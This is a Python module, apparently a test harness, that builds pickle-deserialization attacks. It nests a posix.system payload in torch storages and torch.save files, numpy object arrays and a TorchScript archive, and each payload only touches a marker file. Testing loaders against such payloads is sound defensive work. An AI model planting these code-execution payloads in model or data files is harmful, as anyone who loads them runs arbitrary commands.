"""A pickle inside of something: a pickle, a storage, an array of objects, a file of torch.save in a file of torch.save."""

from io import BytesIO
from pathlib import Path

import numpy as np

from attacks.attack import Attack, main
from attacks.reduce import Runs, saved
from attacks.writing import call, pickled, zipped


def inner(marker: Path) -> bytes:
    """A pickle that runs a command."""
    return pickled(call("posix.system", b"X" + len(command := f"touch {marker}".encode()).to_bytes(4, "little") + command))


def pushed(content: bytes) -> bytes:
    """Pushes bytes."""
    return b"B" + len(content).to_bytes(4, "little") + content


def objects(marker: Path, *, archive: bool) -> bytes:
    """An array of objects, alone or in an archive."""
    buffer, array = BytesIO(), np.array([Runs(f"touch {marker}")], dtype=object)
    np.savez(buffer, weight=array) if archive else np.save(buffer, array)
    return buffer.getvalue()


def storages(marker: Path, depth: int) -> bytes:
    """Storages in storages, with a command in the innermost."""
    content = inner(marker)
    for _ in range(depth):
        content = pickled(call("torch.storage._load_from_bytes", pushed(content)))
    return content


ATTACKS = [
    Attack("a pickle for pickle.loads", lambda marker: pickled(call("_pickle.loads", pushed(inner(marker))))),
    Attack("a pickle in the bytes of a storage", lambda marker: storages(marker, 1)),
    Attack("storages in storages", lambda marker: storages(marker, 100)),
    Attack("a file of torch.save in the bytes of a storage", lambda marker: pickled(
        call("torch.storage._load_from_bytes", pushed(saved(marker, zipped=False))))),
    Attack("an array of objects", lambda marker: objects(marker, archive=False)),
    Attack("an archive with an array of objects", lambda marker: objects(marker, archive=True)),
    Attack("a dataset of objects", lambda marker: objects(marker, archive=True), kind="dataset"),
    Attack("a TorchScript archive with code", lambda marker: zipped({
        "net/data.pkl": inner(marker), "net/constants.pkl": inner(marker), "net/version": b"3",
        "net/code/__torch__.py": f"open({str(marker)!r}, 'w')".encode()})),
]  # fmt: skip

if __name__ == "__main__":
    main(ATTACKS)
